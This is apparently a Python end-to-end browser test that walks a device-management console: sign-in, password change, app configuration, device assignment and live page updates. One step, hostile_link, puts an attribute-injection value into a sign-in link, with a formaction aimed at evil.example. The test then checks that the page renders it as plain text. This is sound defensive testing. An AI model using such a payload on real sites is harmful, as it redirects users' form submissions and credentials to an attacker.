"""Walks the console as people do: with a mouse, with the keyboard alone, without scripts, on a phone, in the dark.

Called by ConsoleTests: walk.py CHROMIUM DRIVER AXE ADDRESS PICTURES STEP…; names and passwords come as JSON on standard
input. Prints a line for each step; ends with 1 and a sentence when something is not as it must be.
"""

import json
import pathlib
import sys
import time
import urllib.parse

from hostile import Hostile
from judge import Judge
from keyboard import Keyboard
from pages import Pages
from webdriver import ELEMENT, PATIENCE, Browser, Failure


class Walk(Hostile, Keyboard, Pages):
    def __init__(self, browser, axe, base, pictures, secrets):
        self.browser, self.base = browser, base
        self.pictures, self.secrets = pathlib.Path(pictures), secrets
        self.pictures.mkdir(parents=True, exist_ok=True)
        self.judgement = Judge(browser, axe, base, self.pictures, self.expect)

    def open(self, path):
        self.browser.open(self.base + path)

    def open_address(self, address):
        self.browser.open(address.partition("?done=")[0])

    def expect(self, condition, sentence):
        if not condition:
            self.browser.picture(self.pictures / "failed.png")
            raise Failure(f"{sentence} ({self.browser.address}, “{self.browser.title}”)")

    def says(self, text):
        try:
            return text in self.browser.text
        except Failure:
            # The page that was there goes while it is asked.
            return False

    def see(self, text, seconds=PATIENCE):
        """Waits until the page says something: a form was sent, and what comes of it opens."""
        deadline = time.monotonic() + seconds
        while not self.says(text):
            self.expect(time.monotonic() < deadline, f"the page says “{text}”")
            time.sleep(0.1)

    def wait_for(self, text, seconds=PATIENCE):
        """Reloads the page until it says something, as people do who wait."""
        deadline = time.monotonic() + seconds
        while not self.says(text):
            self.expect(time.monotonic() < deadline, f"the page does not come to say “{text}”")
            time.sleep(0.5)
            self.browser.open(self.browser.address)

    def send(self, button):
        """Presses a form's button and waits for the page that comes of it."""
        self.browser.run("window.isOld = true")
        self.browser.click(self.browser.button(button))
        deadline = time.monotonic() + PATIENCE
        while not self.is_new():
            self.expect(time.monotonic() < deadline, f"something comes of “{button}”")
            time.sleep(0.05)

    def is_new(self):
        try:
            return self.browser.run("return !window.isOld && document.readyState === 'complete'")
        except Failure:
            return False

    def fill(self, fields):
        for name, value in fields.items():
            self.browser.type(self.browser.find(f"[name='{name}']"), value)

    # Steps

    def hostile_link(self):
        """A link to the page for people who enroll writes no markup into it."""
        link = 'a"\u0301 type=submit formaction=https://evil.example/ x="'
        self.open("/enroll/account/sign-in?user-identifier=" + urllib.parse.quote(link))
        self.expect(self.browser.title == "Sign in", "the page to enroll opens")
        self.expect(not self.browser.find_all("[formaction]"), "the page has no formaction")
        self.expect(len(self.browser.find_all("input")) == 2, "the page has its two fields")
        value = self.browser.run("return document.querySelector('[name=account]').value")
        self.expect(value == link, "what the link names stands in the field as text")
        width = self.browser.run("return getComputedStyle(document.body).maxWidth")
        self.expect(width != "none", "the policy lets the page's own style through")
        # What was asked for by this page is not the console's.
        self.browser.requests()

    def first_login(self):
        """A one-time password leads to the page that changes it, and to nothing else; both pages are judged."""
        self.change_password(self.judgement.page)

    def change_password(self, look=lambda name: None):
        """The same for a walk that judges other pages."""
        self.open("/console")
        look("sign-in")
        self.fill({"name": self.secrets["name"], "password": self.secrets["once"]})
        self.send("Sign in")
        self.see("Change the password")
        look("password")
        password = self.secrets["password"]
        self.fill({"old": self.secrets["once"], "new": password, "again": password})
        self.send("Change the password")
        self.see("The password is changed")
        self.send("Sign out")
        self.see("You are signed out")

    def settle(self, title):
        deadline = time.monotonic() + PATIENCE
        while not self.browser.title.startswith(title):
            self.expect(time.monotonic() < deadline, f"“{title}” does not open")
            time.sleep(0.1)

    def field(self, label):
        """The field that is called so."""
        return self.browser.run(
            "const all = Array.from(document.querySelectorAll('label'));"
            "const one = all.find(l => l.textContent.trim().startsWith(arguments[0]) && l.control);"
            "return one ? one.control : null", label)[ELEMENT]

    def save(self):
        self.send("Save")
        self.see("Saved.")

    def enter(self):
        """Signs in with the mouse."""
        self.open("/console/sign-in")
        self.fill({"name": self.secrets["name"], "password": self.secrets["password"]})
        self.send("Sign in")
        self.settle("Overview")

    def administer(self):
        """Adds an app, imports what it publishes, configures it by form, is refused at the key, gives it to a group; sees
        the device take it, the app refuse, and why; brings the version before back."""
        app, device = self.secrets["app"], "/console/devices/" + self.secrets["device"]
        self.open("/console")
        self.browser.click(self.browser.link("Apps"))
        self.settle("Apps")
        self.browser.click(self.browser.link("Add an app"))
        self.fill({"app": app, "name": "Landmarks"})
        self.judgement.page("add-app")
        self.send("Add")
        self.see("Added.")
        self.browser.click(self.browser.link("Import"))
        self.browser.run("document.querySelector('[name=text]').value = arguments[0]", self.secrets["specification"])
        self.judgement.page("import")
        self.send("Import")
        self.see("Saved.")

        configurations = f"/console/apps/{app}/configurations"
        self.open(configurations)
        self.fill({"name": "default"})
        self.send("Fill it in")
        self.browser.type(self.field("More landmarks"), "http://landmarks.example")
        self.send("Check and see what changes")
        self.expect(
            self.browser.attribute(self.field("More landmarks"), "aria-invalid") == "true",
            "the key is marked at which the app would refuse it")
        # That the page says 422 is what it should say.
        self.browser.complaints()
        self.judgement.page("refused-at-the-key")
        self.browser.type(self.field("More landmarks"), "https://landmarks.example/all.json")
        self.send("Check and see what changes")
        self.judgement.page("review")
        self.save()

        self.open(f"/console/apps/{app}/assignments")
        self.browser.run(
            "for (const [name, value] of [['group', 'teachers'], ['configuration', 'default'], ['trust', 'shared']])"
            "document.querySelector(`[name=${name}]`).value = value")
        self.send("Assign")
        self.open(device)
        self.wait_for("Took its configuration")
        self.judgement.page("device-green")

        # Whatever Base64 is, to the specification; to the app it is no certificate.
        self.open(f"{configurations}/default/edit")
        self.browser.type(self.field("Whom to believe, in the configuration"), "bm8gY2VydGlmaWNhdGU=")
        self.send("Check and see what changes")
        self.save()
        self.open(device)
        self.wait_for("Refuses its configuration")
        self.see("Convert it: openssl x509")
        self.judgement.page("device-refused")
        self.open("/console")
        self.judgement.page("overview-refused")

        self.open(f"{configurations}/default/versions/1")
        self.send("Bring this version back")
        self.open(device)
        self.wait_for("Took its configuration")

    def live(self):
        """Pages that stay open show what happens elsewhere: nothing is opened again, and who reads is not disturbed."""
        device = f"/console/devices/{self.secrets['device']}"
        for name, path, text, link in [
            ("overview", "/console", "seen-at-once", "All activity"),
            ("app", f"/console/apps/{self.secrets['app']}", "seen-at-once", "Give it to a group"),
            ("device", device, "Refuses its configuration", "In other groups"),
            ("refusal", device, "Took its configuration", "In other groups"),
            ("jobs", "/console/jobs", "Check of the audit log", "Health"),
        ]:
            if name != "refusal":
                self.open(path)
            self.connected()
            self.browser.run(
                "window.isOld = true; scrollTo(0, 120); arguments[0].focus({preventScroll: true})",
                {ELEMENT: self.browser.link(link)})
            place = self.browser.run("return scrollY")
            print(f"looks at: {name}", flush=True)
            self.see(text)
            self.expect(self.browser.run("return window.isOld"), "the page was not opened again")
            self.expect(self.browser.text_of(self.browser.focused) == link, f"“{link}” keeps the focus")
            self.expect(abs(self.browser.run("return scrollY") - place) <= 1, "the page stays where it was")
            heard = self.browser.run("return document.getElementById('live-word').textContent")
            self.expect(heard.startswith("Changed just now: "), f"what changed is said, not “{heard}”")
            self.expect(self.browser.run("return document.getElementById('live-word').getAttribute('role')") == "status",
                        "politely")
            if name in ("overview", "refusal"):
                self.judgement.page(f"live-{name}")
        self.job()
        self.open("/console/account")
        self.judgement.quiet("after live pages")

    def job(self):
        """A job's page goes along with it to its end."""
        print("looks at: job", flush=True)
        self.see("Devices put into a group")
        # In one step: the list is another one with each piece of the work that is done.
        self.browser.run("document.querySelector('[data-part=Jobs] tbody tr:first-child a').click()")
        self.see("How far it is")
        self.browser.run("window.isOld = true")
        print(f"the job is {'over' if self.says('What came of it') else 'open'} as its page opens")
        self.see("What came of it", seconds=600)
        self.expect(self.browser.run("return window.isOld"), "the page was not opened again")
        self.expect(not self.says("End this job"), "what has ended is not to be ended")
        self.judgement.page("live-job")

    def connected(self):
        deadline = time.monotonic() + PATIENCE
        while not self.browser.find_all("main[data-connected]"):
            self.expect(time.monotonic() < deadline, "the page hears what changes")
            time.sleep(0.1)


def main():
    chromium, driver, axe, base, pictures, *steps = sys.argv[1:]
    secrets = json.load(sys.stdin)
    with Browser(chromium, driver) as browser:
        walk = Walk(browser, pathlib.Path(axe).read_text(encoding="utf-8"), base, pictures, secrets)
        walk.browser.requests()
        try:
            for step in steps:
                getattr(walk, step.replace("-", "_"))()
                print(f"done: {step}", flush=True)
        except Failure as failure:
            print(f"{step}: {failure}", flush=True)
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
